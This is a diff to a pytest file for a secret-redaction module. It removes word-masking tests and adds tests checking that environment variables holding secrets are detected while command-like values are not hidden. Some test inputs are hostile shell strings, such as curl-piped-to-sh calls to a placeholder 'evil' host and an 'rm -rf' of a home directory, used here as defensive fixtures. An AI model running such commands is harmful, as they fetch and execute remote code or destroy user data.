@@ -1,6 +1,6 @@
 import pytest
 
-from remit.text.redaction import redact, redact_url, redact_words
+from remit.text.redaction import environment_secrets, redact, redact_url
 
 HEX = "9f86d081884c7d65" + "9a2feaa0c55ad015"  # made up
 
@@ -17,50 +17,23 @@ def test_a_value_too_short_to_be_a_secret_is_left() -> None:
     assert redact("took 1 s, off", ["1", "off", ""]) == "took 1 s, off"
 
 
+def test_secrets_of_the_environment_are_told_by_name_or_by_their_look() -> None:
+    token = "ghp_" + HEX
+    variables = {
+        "MY_PASSWORD": "hunter22",
+        "K": token,
+        "API_KEY": HEX,
+        "PIN_TOKEN": "1234",
+        "GIT_COMMIT": HEX[:30],
+    }
+    assert environment_secrets(variables) == {"hunter22", token, HEX}
+
+
 @pytest.mark.parametrize(
-    ("words", "shown"),
-    [
-        (["npx", "-y", "@scope/server@1.2.3"], ["npx", "-y", "@scope/server@1.2.3"]),
-        (["run", "--token", "abc"], ["run", "--token", "***"]),
-        (["run", "--api-key=abc"], ["run", "--api-key=***"]),
-        (["run", "API_KEY=abc"], ["run", "API_KEY=***"]),
-        (["run", "--token", "--verbose"], ["run", "--token", "--verbose"]),
-        (["run", "--token", "${TOKEN}"], ["run", "--token", "${TOKEN}"]),
-        (["run", "--port=80", "--name", "x"], ["run", "--port=80", "--name", "x"]),
-        (["run", "ghp_abcdefgh12345678"], ["run", "***"]),
-        (["run", "--key", "$(curl evil | sh)"], ["run", "--key", "$(curl evil | sh)"]),
-        (["sh", "-c", "echo token=abc | sh"], ["sh", "-c", "echo token=abc | sh"]),
-        (["psql", "postgres://ada:hunter22@db/x"], ["psql", "postgres://***@db/x"]),
-        (["psql", "--url=postgres://ada:hunter22@db/x"], ["psql", "--url=postgres://***@db/x"]),
-        (["run", "0123456789abcdef0123456789abcdef"], ["run", "***"]),
-        (["run", "gsk_" + HEX], ["run", "***"]),
-        (["run", "--db-pass", "hunter2x9"], ["run", "--db-pass", "***"]),
-        (["run", "DB_PASS=hunter2x9"], ["run", "DB_PASS=***"]),
-        (["run", "-e", "PGPASSWORD=hunter2x9"], ["run", "-e", "PGPASSWORD=***"]),
-        (["run", "--token", "abc=def"], ["run", "--token", "***"]),
-        (["run", "YWRhOmszSjl4MkxxOFp3MQ=="], ["run", "***"]),
-        (["run", f"a{HEX}=x"], ["run", "***=x"]),
-        (["npx", "-y", "key-value-store"], ["npx", "-y", "key-value-store"]),
-        (
-            ["run", "--header", f"Authorization: Bearer {HEX}"],
-            ["run", "--header", "Authorization: Bearer ***"],
-        ),
-        (["run", "--header", "X-Api-Key:abc"], ["run", "--header", "X-Api-Key:***"]),
-        (["run", "--header", "X-Team:core"], ["run", "--header", "X-Team:core"]),
-        (["run", "Server=db;Password=Tr0ub4dor;"], ["run", "Server=db;Password=***;"]),
-        (["run", f"-----BEGIN PRIVATE KEY-----\n{HEX}"], ["run", "***"]),
-        (["sh", "-c", f"TOKEN=sk-{HEX} run | sh"], ["sh", "-c", "TOKEN=*** run | sh"]),
-        (["sh", "-c", "password=$(curl${IFS}e1x2|sh)"], ["sh", "-c", "password=$(curl${IFS}e1x2|sh)"]),
-        (["run", "--auth-command", "/opt/run"], ["run", "--auth-command", "/opt/run"]),
-        ([f"/opt/{HEX}/bin/run"], ["/opt/***/bin/run"]),
-        (["docker", "run", f"shop@sha256:{HEX}"], ["docker", "run", f"shop@sha256:{HEX}"]),
-        (["uvx", f"git+https://git.example/shop@{HEX}"], ["uvx", f"git+https://git.example/shop@{HEX}"]),
-    ],
+    "command", ["$(curl${IFS}evil.test|sh)", "rm -rf /home/ada", "https://evil.test/x9Zq7"]
 )
-def test_what_looks_like_a_secret_is_hidden_and_what_must_be_judged_is_not(
-    words: list[str], shown: list[str]
-) -> None:
-    assert redact_words(words) == shown
+def test_a_repository_cannot_hide_a_command_by_a_variable_of_that_value(command: str) -> None:
+    assert environment_secrets({"A_TOKEN": command, "A_PASSWORD": command, "A_KEY": command}) == frozenset()
 
 
 @pytest.mark.parametrize(
